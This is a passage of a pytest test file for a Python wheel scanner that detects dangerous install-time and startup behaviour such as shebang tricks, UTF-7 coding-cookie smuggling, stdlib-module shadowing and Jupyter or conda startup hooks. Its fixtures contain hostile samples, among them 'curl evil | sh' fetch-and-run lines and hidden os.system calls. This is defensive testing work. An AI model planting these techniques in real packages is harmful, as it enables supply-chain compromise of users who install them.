    ("#!/usr/bin/env -S sh -c '. \"$1\"' python\n''':'\ntouch x\nexit 0\n'''\n",
     {native_script(f"{S}/t", "'/usr/bin/env -S sh -c '. \"$1\"' python'")}),
    ("#!/usr/bin/python3 -cimport os;os.system('id')\nprint(1)\n",
     {native_script(f"{S}/t", "'/usr/bin/python3 -cimport os;os.system('id')'")}),
    ("#!/usr/bin/env python3 -u\n" + SYSTEM,
     {native_script(f"{S}/t", "'/usr/bin/env python3 -u'"),
      ("subprocess", f"{S}/t", 3, "import", "os.system")}),
    ("#!/opt/evil/python\n" + SYSTEM,
     {native_script(f"{S}/t", "'/opt/evil/python'"),
      ("subprocess", f"{S}/t", 3, "import", "os.system")}),
    ("#!/usr/bin/perl\nsystem('id');\n", {native_script(f"{S}/t", "'/usr/bin/perl'")}),
    ("\ufeff#!python\n" + SYSTEM, {native_script(f"{S}/t", "a shell (no #! line)"),
                                  ("subprocess", f"{S}/t", 3, "import", "os.system")}),
    ("touch x\n", {native_script(f"{S}/t", "a shell (no #! line)")}),
])
def test_scripts_run_as_their_first_line_says(tmp_path: Path, script: str,
                                              expected: set[tuple[str, ...]]) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", f"{S}/t": script})
    assert evidence(s) == expected


def test_data_scheme_scripts_are_not_rewritten(tmp_path: Path) -> None:
    # pip and uv rewrite '#!python' in the scripts scheme only: in data/bin the kernel
    # looks for ./python in the current directory
    s = scan(tmp_path, {"foo/__init__.py": "", "foo-1.0.data/data/bin/t": "#!python\n" + SYSTEM})
    assert evidence(s) == {native_script("foo-1.0.data/data/bin/t", "'python'"),
                           ("subprocess", "foo-1.0.data/data/bin/t", 3, "import", "os.system")}


@pytest.mark.parametrize("first", [b"#!python\n", b"#!/usr/bin/env python3\n",
                                   b"#!/usr/bin/env python3 -u\n"])
def test_zipapp_script_is_refused(tmp_path: Path, first: bytes) -> None:
    # Python runs __main__.py from a zip behind the #! line (zipapp, pex), not the text
    app = first + _zip_bytes({"__main__.py": b"import os\nos.system('id')\n"})
    with pytest.raises(ScanError) as exc:
        scan(tmp_path, {"foo/__init__.py": "", f"{S}/t": app})
    assert str(exc.value) == (f"foo-1.0-py3-none-any.whl: {S}/t is a zip archive behind its "
                              f"#! line (Python runs the __main__.py inside it, not the text "
                              f"the scan reads)")


def test_script_named_py_without_a_first_line_is_a_shell_script(tmp_path: Path) -> None:
    s = scan(tmp_path, {"foo/__init__.py": "", f"{S}/t.py": SYSTEM})
    assert evidence(s) == {native_script(f"{S}/t.py", "a shell (no #! line)"),
                           ("subprocess", f"{S}/t.py", 2, "import", "os.system")}


def test_rewritten_script_is_scanned_as_installed(tmp_path: Path) -> None:
    # pip and uv replace line 1, and its coding cookie with it: the installed script is
    # decoded as UTF-7 (line 2's cookie), where '+AAo-' is a newline
    script = ("#!python # -*- coding: latin-1 -*-\n# -*- coding: utf-7 -*-\n"
              "#+AAo-import os+ADs-os.system(+ACc-id+ACc-)\n")
    s = scan(tmp_path, {"foo/__init__.py": "", f"{S}/t": script})
    assert evidence(s) == {("subprocess", f"{S}/t", 4, "import", "os.system")}


def test_carriage_return_inside_the_rewritten_line(tmp_path: Path) -> None:
    with pytest.raises(ScanError) as exc:
        scan(tmp_path, {"foo/__init__.py": "", f"{S}/t": "#!python\rimport os\nx = 1\n"})
    assert str(exc.value) == (f"foo-1.0-py3-none-any.whl: {S}/t has a carriage return inside "
                              f"its #!python line (pip rewrites the line up to its \\n, uv up "
                              f"to the \\r: they install different scripts)")


def test_scripts_are_modules_of_every_script_run_from_their_directory(tmp_path: Path) -> None:
    # pip's launcher starts 'import re': a re.py beside it is imported instead of the stdlib
    where_ = "<scripts> is sys.path[0] of every script run from it"
    s = scan(tmp_path, {"foo/__init__.py": "", f"{S}/re.py": "#!python\n",
                        f"{S}/requests.py": "#!/usr/bin/env python3\n",
                        f"{S}/tool.pyc": TIMESTAMP_PYC,
                        "foo-1.0.data/data/bin/json": "#!/usr/bin/env python3\n",
                        f"{S}/foo-tool.py": "#!python\n"})
    assert evidence(s) == {
        ("startup-hooks", f"{S}/re.py", 0, "startup", f"shadows stdlib module 're' ({where_})"),
        ("startup-hooks", f"{S}/requests.py", 0, "startup",
         f"installs into 'requests', the package of requests ({where_})"),
        ("unanalyzed", f"{S}/tool.pyc", 0, "import",
         f"{BYTECODE_DETAIL}: {S}/tool.pyc is imported without any source ({where_})"),
    }


# ---------------------------------------------------------------- entry points
def test_entry_points_pip_and_uv_read_otherwise_are_refused(tmp_path: Path) -> None:
    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": ""},
                      entry_points={"console_scripts": {"foo": "foo:main"}})
    with zipfile.ZipFile(whl) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    members["foo-1.0.dist-info/entry_points.txt"] = (
        b"[console_scripts]\nfoo = foo:main\n    activate = foo:main\n")
    with zipfile.ZipFile(whl, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    with pytest.raises(ScanError) as exc:
        scan_artifact(whl)
    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: entry_points.txt line 3 is indented "
                              "(configparser continues the value before with it, pip and uv "
                              "read an entry point)")


# ---------------------------------------------------------------- RECORD
def test_record_listing_a_file_the_wheel_does_not_hold(tmp_path: Path) -> None:
    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": ""})
    with zipfile.ZipFile(whl) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    members["foo-1.0.dist-info/RECORD"] += b"victim/__init__.py,,\n"
    with zipfile.ZipFile(whl, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    with pytest.raises(ScanError) as exc:
        scan_artifact(whl)
    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: foo-1.0.dist-info/RECORD lists "
                              "'victim/__init__.py', which the wheel does not hold (pip would "
                              "record it as this distribution's file)")


# ---------------------------------------------------------------- what other programs start
D = "foo-1.0.data/data"


def test_ipython_and_jupyter_configuration_are_startup_hooks(tmp_path: Path) -> None:
    s = scan(tmp_path, {
        "foo/__init__.py": "",
        f"{D}/etc/jupyter/jupyter_server_config.d/foo.json":
            '{"ServerApp": {"jpserver_extensions": {"foo": true, "off": false}}}',
        f"{D}/etc/jupyter/nbconfig/notebook.d/foo.json": '{"load_extensions": {"foo/main": 1}}',
        f"{D}/etc/jupyter/jupyter_notebook_config.py": SYSTEM,
        f"{D}/etc/jupyter/README.md": "import os",
        f"{D}/etc/ipython/ipython_config.json":
            '{"InteractiveShellApp": {"exec_lines": ["import os", "os.system(1)"], '
            '"extensions": ["foo.ext"]}}',
        f"{D}/etc/ipython/profile_x/ipython_config.py": "c = 1\n",
    })
    assert evidence(s) == {
        ("startup-hooks", f"{D}/etc/jupyter/jupyter_server_config.d/foo.json", 0, "startup",
         "Jupyter reads <prefix>/etc/jupyter/jupyter_server_config.d/foo.json at every start: "
         "loads foo"),
        ("startup-hooks", f"{D}/etc/jupyter/nbconfig/notebook.d/foo.json", 0, "startup",
         "Jupyter reads <prefix>/etc/jupyter/nbconfig/notebook.d/foo.json at every start: "
         "loads foo/main"),
        ("startup-hooks", f"{D}/etc/jupyter/jupyter_notebook_config.py", 0, "startup",
         "Jupyter runs <prefix>/etc/jupyter/jupyter_notebook_config.py at every start"),
        ("subprocess", f"{D}/etc/jupyter/jupyter_notebook_config.py", 2, "startup",
         "os.system"),
        ("startup-hooks", f"{D}/etc/ipython/ipython_config.json", 0, "startup",
         "IPython reads <prefix>/etc/ipython/ipython_config.json at every start: loads "
         "foo.ext"),
        ("subprocess", f"{D}/etc/ipython/ipython_config.json", 2, "startup", "os.system"),
        ("startup-hooks", f"{D}/etc/ipython/profile_x/ipython_config.py", 0, "startup",
         "IPython runs <prefix>/etc/ipython/profile_x/ipython_config.py at every start"),
    }


def test_jupyter_kernels_and_lab_extensions_are_startup_hooks(tmp_path: Path) -> None:
    kernels, lab = f"{D}/share/jupyter/kernels", f"{D}/share/jupyter/labextensions"
    s = scan(tmp_path, {
        "foo/__init__.py": "",
        f"{kernels}/python3/kernel.json": '{"argv": ["sh", "-c", "curl evil | sh"]}',
        f"{kernels}/python3/kernel.js": "fetch('x')",
        f"{kernels}/python3/logo-64x64.png": b"\x89PNG",
        f"{kernels}/other/kernel.json": "not json",
        f"{lab}/@foo/bar/package.json": "{}", f"{lab}/baz/package.json": "{}",
        f"{lab}/baz/static/remoteEntry.js": "x",
        f"{D}/share/jupyter/nbextensions/foo/main.js": "x",  # loaded when nbconfig says so
    })
    assert evidence(s) == {
        ("startup-hooks", f"{kernels}/python3/kernel.json", 0, "startup",
         "Jupyter kernel 'python3' runs [\"sh\", \"-c\", \"curl evil | sh\"] when it starts"),
        ("startup-hooks", f"{kernels}/python3/kernel.js", 0, "startup",
         "the notebook runs kernel.js of Jupyter kernel 'python3' in the browser"),
        ("startup-hooks", f"{kernels}/other/kernel.json", 0, "startup",
         "Jupyter kernel 'other' runs a command it does not say when it starts"),
        ("startup-hooks", f"{lab}/@foo/bar/package.json", 0, "startup",
         "JupyterLab loads prebuilt extension '@foo/bar' (code in the browser) at every start"),
        ("startup-hooks", f"{lab}/baz/package.json", 0, "startup",
         "JupyterLab loads prebuilt extension 'baz' (code in the browser) at every start"),
    }


def test_conda_activation_scripts_are_startup_hooks(tmp_path: Path) -> None:
    path = f"{D}/etc/conda/activate.d/foo.sh"
    s = scan(tmp_path, {"foo/__init__.py": "", path: "curl evil | sh\n"})
    assert evidence(s) == {
        ("startup-hooks", path, 0, "startup", "conda runs <prefix>/etc/conda/activate.d/foo.sh "
                                              "at every (de)activation of the environment"),
        ("native", path, 0, "startup", f"executable script {path} runs under the shell that "
                                       f"activates a conda environment, not Python: not "
                                       f"analysed"),
    }


@pytest.mark.parametrize(("first", "native_too"), [
    (b"#!/bin/sh\n", True), (b"#!python\n", False), (b"#!/usr/bin/env python3\n", False)])
def test_script_too_large_to_read(tmp_path: Path, first: bytes, native_too: bool) -> None:
    from gate.archive import Limits, read_archive
    from gate.model import normalize
    from gate.scan.wheel import scan_wheel

    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": "",
                                                f"{S}/t": first + b"#" * 4000 + b"\n"})
    with read_archive(whl, limits=Limits(max_read=2000)) as ar:
        found = {(str(f.capability), f.phase.value, f.detail)
                 for f in scan_wheel(ar, name=normalize("foo"), version="1.0")}
    unread = ("unanalyzed", "import", f"{S}/t is too large to analyse ({len(first) + 4001} "
                                      f"bytes)")
    runs = ("native", "runtime", f"executable script {S}/t runs under what its first line "
                                 f"names (too large to read), not Python: not analysed")
    assert found == ({unread, runs} if native_too else {unread})


def test_entry_points_not_utf8_are_refused_not_a_crash(tmp_path: Path) -> None:
    whl = build_wheel(tmp_path, "foo", "1.0", {"foo/__init__.py": ""},
                      entry_points={"console_scripts": {"foo": "foo:main"}})
    with zipfile.ZipFile(whl) as zf:
        members = {i.filename: zf.read(i) for i in zf.infolist()}
    members["foo-1.0.dist-info/entry_points.txt"] = b"[console_scripts]\nfoo = foo:m\xff\n"
    with zipfile.ZipFile(whl, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    with pytest.raises(ScanError) as exc:
        scan_artifact(whl)
    assert str(exc.value) == ("foo-1.0-py3-none-any.whl: entry_points.txt is not UTF-8 (pip "
                              "and uv cannot read it)")
